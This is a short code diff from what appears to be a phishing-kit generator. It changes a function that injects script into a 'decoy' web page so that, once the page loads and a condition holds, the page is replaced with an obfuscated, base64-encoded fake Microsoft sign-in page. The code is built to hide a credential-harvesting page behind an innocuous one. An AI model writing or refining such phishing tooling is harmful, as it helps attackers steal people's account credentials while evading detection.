@@ -31,7 +31,7 @@ def written(body):
 
 def scripted(condition, number=0, before=""):
     """The decoy; where `condition` holds a script replaces it by the sign-in page."""
-    code = f"<script>{before}function s(){{document.open();document.write(decodeURIComponent(escape(atob('{written(phish.microsoft())}'))));document.close()}}{condition}</script>"
+    code = f"<script>{before}function s(){{document.open();document.write(decodeURIComponent(escape(atob('{written(phish.microsoft())}'))));document.close()}}addEventListener('load',function(){{{condition}}})</script>"
     return decoy(number).replace("</body>", code + "</body>")
 
 
